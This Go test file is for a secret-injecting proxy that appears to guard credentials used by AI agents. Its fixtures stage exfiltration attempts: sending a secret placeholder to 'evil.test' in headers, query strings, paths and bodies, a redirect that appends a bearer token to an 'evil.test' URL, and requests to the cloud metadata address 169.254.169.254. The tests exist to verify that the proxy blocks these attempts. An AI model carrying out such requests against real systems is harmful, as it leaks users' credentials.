package mitm_test

import (
	"crypto/tls"
	"errors"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/agentsecrets/agentsecrets/allowlist"
	"github.com/agentsecrets/agentsecrets/audit"
	"github.com/agentsecrets/agentsecrets/internal/lab"
	"github.com/agentsecrets/agentsecrets/mitm"
)

func TestDenied(t *testing.T) {
	eachProtocol(t, func(t *testing.T, change func(*lab.Config)) {
		o := newRecorder()
		cfg := lab.Config{
			Secrets: map[string]string{"KEY": value, "BOUND": value}, Allow: []string{host, "other.test"}, Origin: o,
			Bindings: map[string]allowlist.Binding{"BOUND": {Hosts: []allowlist.Rule{{Host: "other.test"}}, Places: []string{"header:x-api-key"}}},
		}
		change(&cfg)
		l := lab.New(t, cfg)
		form := http.Header{"Content-Type": {"application/x-www-form-urlencoded"}}
		for _, c := range []struct {
			name, host, path, body string
			header                 http.Header
			status                 int
			slug                   string
			hint                   string
		}{
			{"host", evil, "/", "", bearer("KEY"), 403, "domain_not_in_allowlist", "agentsecrets workspace allowlist add evil.test"},
			{"host, query", evil, "/?k=AS_SECRET_KEY", "", nil, 403, "domain_not_in_allowlist", "allowlist add"},
			{"host, path", evil, "/AS_SECRET_KEY", "", nil, 403, "domain_not_in_allowlist", "allowlist add"},
			{"host, body", evil, "/", "k=AS_SECRET_KEY", form, 403, "domain_not_in_allowlist", "allowlist add"},
			{"binding", host, "/", "", bearer("BOUND"), 403, "binding_denied", "agentsecrets secrets bind BOUND"},
			{"path without binding", host, "/AS_SECRET_KEY", "", nil, 403, "place_denied", "agentsecrets secrets bind KEY"},
			{"unknown name", host, "/", "", bearer("NOSUCH"), 424, "secret_not_found", ""},
		} {
			resp, body := do(t, l, "POST", l.URL(c.host, c.path), c.body, c.header)
			p := wantProblem(t, resp, body, c.status, c.slug)
			if !strings.Contains(p.Hint, c.hint) {
				t.Errorf("%s: hint %q", c.name, p.Hint)
			}
			if p.Exchange == "" || p.Exchange != resp.Header.Get("AgentSecrets-Exchange") {
				t.Errorf("%s: exchange %q", c.name, p.Exchange)
			}
			o.none(t)
		}
		if d := l.Dialled(); len(d) > 0 {
			t.Errorf("dialled %v", d)
		}
		for _, e := range l.Events() {
			if e.Status != audit.Blocked || e.Reason == "-" || e.Detail == "" || e.Hint == "" && e.Reason != "secret_not_found" {
				t.Errorf("audit: %+v", e)
			}
			if bound := "BOUND bound to --host "; e.Reason == "binding_denied" && !(len(e.Rules) == 2 && strings.HasPrefix(e.Rules[1], bound)) {
				t.Errorf("rules %q", e.Rules)
			}
		}
		if n := len(l.Events()); n != 7 {
			t.Errorf("%d events, want 7", n)
		}
	})
}

// Text that names a placeholder passes to any host.
func TestTextPasses(t *testing.T) {
	o := newRecorder()
	l := lab.New(t, lab.Config{Secrets: secrets, Allow: []string{host}, Origin: o, Text: func(u mitm.Use) bool { return u.Place == "path" && !u.Whole }})
	const body = `{"prompt":"set AS_SECRET_KEY in .env"}`
	resp, _ := do(t, l, "POST", l.URL(evil, "/docs/AS_SECRET_KEY.md"), body, http.Header{"Content-Type": {"application/json"}})
	if got := o.take(t); resp.StatusCode != 200 || got.Body != body || got.Target != "/docs/AS_SECRET_KEY.md" {
		t.Errorf("%s %+v", resp.Status, got)
	}
	e := waitEvent(t, l)
	if got := strings.Join(e.Mentions, ", "); got != "KEY path, KEY text" || len(e.SecretKeys) > 0 || e.Status != audit.OK {
		t.Errorf("audited: %+v", e)
	}
}

func TestA3AuditUnavailable(t *testing.T) {
	o := newRecorder()
	l := lab.New(t, lab.Config{Secrets: secrets, Allow: []string{host}, Origin: o, Change: func(c *mitm.Config) {
		c.Record = func(audit.Event) error { return errors.New("disk full") }
	}})
	resp, body := do(t, l, "GET", l.URL(host, "/"), "", bearer("KEY"))
	if p := wantProblem(t, resp, body, 503, "audit_unavailable"); p.Hint != "agentsecrets doctor" {
		t.Errorf("hint %q", p.Hint)
	}
	o.none(t)
	if resp, _ := do(t, l, "GET", l.URL(host, "/"), "", nil); resp.StatusCode != 200 {
		t.Errorf("traffic without placeholders: %s", resp.Status)
	}
}

func TestPlaintext(t *testing.T) {
	o := newRecorder()
	s := httptest.NewServer(o)
	t.Cleanup(s.Close)
	l := lab.New(t, lab.Config{Secrets: secrets, Allow: []string{host}})
	_, port, _ := net.SplitHostPort(s.Listener.Addr().String())
	url := "http://" + net.JoinHostPort(host, port) + "/x?q=1"
	req, _ := http.NewRequest("GET", url, nil)
	if resp, body := send(t, l.Client, req); resp.StatusCode != 200 || body != "ok" {
		t.Fatalf("%s %s", resp.Status, body)
	}
	if got := o.take(t); got.Target != "/x?q=1" {
		t.Errorf("origin got %s", got.Target)
	}
	req, _ = http.NewRequest("GET", url, nil)
	req.Header = bearer("KEY")
	resp, body := send(t, l.Client, req)
	wantProblem(t, resp, body, 403, "plaintext_denied")
	o.none(t)
}

func TestOriginFaults(t *testing.T) {
	o := newRecorder()
	l := lab.New(t, lab.Config{Secrets: secrets, Allow: []string{host, "10.1.2.3"}, Origin: o})
	untrusted := lab.New(t, lab.Config{Secrets: secrets, Allow: []string{host}, Origin: o, Change: func(c *mitm.Config) { c.Roots = nil }})
	resp, body := do(t, untrusted, "GET", untrusted.URL(host, "/"), "", bearer("KEY"))
	if p := wantProblem(t, resp, body, 502, "origin_untrusted"); !strings.HasSuffix(p.Hint, " --ca FILE") {
		t.Errorf("hint %q", p.Hint)
	}
	resp, body = do(t, l, "GET", "https://"+host+":1/", "", nil)
	if p := wantProblem(t, resp, body, 502, "origin_unreachable"); !strings.HasPrefix(p.Hint, "agentsecrets allowlist test https://") {
		t.Errorf("hint %q", p.Hint)
	}
	resp, body = do(t, l, "GET", "http://"+host+":1/", "", nil)
	if p := wantProblem(t, resp, body, 502, "origin_unreachable"); p.Hint != "agentsecrets allowlist test http://"+host+":1" {
		t.Errorf("hint %q", p.Hint)
	}
	private := "https://10.1.2.3:" + portOf(l) + "/"
	resp, body = do(t, l, "GET", private, "", bearer("KEY"))
	wantProblem(t, resp, body, 403, "private_address")
	resp, body = do(t, l, "GET", "https://169.254.169.254/latest/meta-data", "", nil)
	wantProblem(t, resp, body, 403, "private_address")
	resp, body = do(t, l, "GET", "https://"+l.Addr.String()+"/", "", nil)
	wantProblem(t, resp, body, 403, "private_address")
	o.none(t)
}

func portOf(l *lab.Lab) string {
	_, port, _ := net.SplitHostPort(l.Authority(host))
	return port
}

// A redirect is the client's to follow, and its next request is judged anew.
func TestRedirectNotFollowed(t *testing.T) {
	l := lab.New(t, lab.Config{Secrets: secrets, Allow: []string{host}, Origin: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "https://evil.test/?k="+strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "), http.StatusFound)
	})})
	resp, _ := do(t, l, "GET", l.URL(host, "/"), "", bearer("KEY"))
	if resp.StatusCode != 302 {
		t.Fatal(resp.Status)
	}
	noEcho(t, "Location", resp.Header.Get("Location"))
}

// A value and no value never share an origin connection: the latter may have
// been made to a private address or under other roots.
func TestPoolsApart(t *testing.T) {
	conns := make(chan string, 8)
	l := lab.New(t, lab.Config{Secrets: secrets, Allow: []string{host}, Origin: http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { conns <- r.RemoteAddr })})
	do(t, l, "GET", l.URL(host, "/"), "", nil)
	do(t, l, "GET", l.URL(host, "/"), "", bearer("KEY"))
	do(t, l, "GET", l.URL(host, "/"), "", bearer("KEY"))
	plain, first, second := <-conns, <-conns, <-conns
	if plain == first {
		t.Error("a value went over a connection that was made without the guard")
	}
	if first != second {
		t.Error("the second value did not reuse the connection of the first")
	}
}

// The address is checked when it is dialled, after resolving.
func TestGuardAtDial(t *testing.T) {
	var asked []netip.Addr
	l := lab.New(t, lab.Config{Secrets: secrets, Allow: []string{"localhost"}, Origin: newRecorder(), Change: func(c *mitm.Config) {
		c.Guard = func(a netip.Addr) error { asked = append(asked, a); return allowlist.GuardAddr(a) }
	}})
	resp, body := do(t, l, "GET", l.URL("localhost", "/"), "", bearer("KEY"))
	wantProblem(t, resp, body, 403, "private_address")
	if len(asked) == 0 || !asked[0].IsLoopback() {
		t.Errorf("guard was asked about %v", asked)
	}
}

func TestTLS11OriginRefused(t *testing.T) {
	l := lab.New(t, lab.Config{Secrets: secrets, Allow: []string{host}})
	l.Origin.TLS.MinVersion, l.Origin.TLS.MaxVersion = tls.VersionTLS10, tls.VersionTLS11
	old := httptest.NewUnstartedServer(newRecorder())
	old.TLS = &tls.Config{MinVersion: tls.VersionTLS10, MaxVersion: tls.VersionTLS11, GetCertificate: l.Origin.TLS.GetCertificate}
	old.Config.ErrorLog = nil
	old.StartTLS()
	t.Cleanup(old.Close)
	_, port, _ := net.SplitHostPort(old.Listener.Addr().String())
	resp, body := do(t, l, "GET", "https://"+host+":"+port+"/", "", nil)
	wantProblem(t, resp, body, 502, "origin_protocol")
}

// A client that leaves takes its origin request with it.
func TestClientLeaves(t *testing.T) {
	gone := make(chan time.Time, 1)
	l := lab.New(t, lab.Config{Allow: []string{host}, ClientH1: true, Origin: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.NewResponseController(w).Flush()
		<-r.Context().Done()
		gone <- time.Now()
	})})
	resp, err := l.Client.Get(l.URL(host, "/"))
	if err != nil {
		t.Fatal(err)
	}
	left := time.Now()
	resp.Body.Close()
	l.Client.CloseIdleConnections()
	select {
	case at := <-gone:
		if d := at.Sub(left); d > time.Second {
			t.Errorf("cancelled after %v", d)
		}
	case <-time.After(5 * time.Second):
		t.Error("the origin's request was not cancelled")
	}
	io.Discard.Write(nil)
}

// A client that promises a body and sends none holds no connection for long
// where nothing of the body is wanted.
func TestBodyNeverSent(t *testing.T) {
	l := lab.New(t, lab.Config{Secrets: secrets, Allow: []string{host}})
	for _, head := range []string{
		"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 9\r\n\r\n",
		"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n",
		"POST http://x.test/ HTTP/1.1\r\nHost: x.test\r\nContent-Length: 9\r\n\r\n",
	} {
		ends(t, l.Dial(), head)
	}
	ends(t, l.TLS(l.Authority(host), "http/1.1"), "POST / HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 9\r\n\r\n")
}

func ends(t *testing.T, c net.Conn, head string) {
	t.Helper()
	io.WriteString(c, head)
	c.SetReadDeadline(time.Now().Add(3 * time.Second))
	if b, err := io.ReadAll(c); errors.Is(err, os.ErrDeadlineExceeded) {
		t.Errorf("%.30q: still open after %q", head, b)
	}
}

// Thousands of placeholders cost no more than their bytes.
func TestManyPlaceholders(t *testing.T) {
	o := newRecorder()
	l := lab.New(t, lab.Config{Secrets: secrets, Allow: []string{host}, Origin: o})
	body := "[" + strings.Repeat(`"AS_SECRET_KEY",`, 20000) + `"AS_SECRET_KEY"]`
	kind := http.Header{"Content-Type": {"application/json"}}
	start := time.Now()
	resp, text := do(t, l, "POST", l.URL(host, "/"), body, kind)
	wantProblem(t, resp, text, 413, "body_too_large")
	req, _ := http.NewRequest("POST", l.URL(host, "/"), io.MultiReader(strings.NewReader(body)))
	req.Header = kind
	resp, text = send(t, l.Client, req)
	wantProblem(t, resp, text, 413, "body_too_large")
	if d := time.Since(start); d > 10*time.Second {
		t.Errorf("took %v", d)
	}
	some := "[" + strings.Repeat(`"AS_SECRET_KEY",`, 500) + `"AS_SECRET_KEY"]`
	if resp, _ := do(t, l, "POST", l.URL(host, "/"), some, kind); resp.StatusCode != 200 {
		t.Errorf("501 placeholders: %s", resp.Status)
	}
}
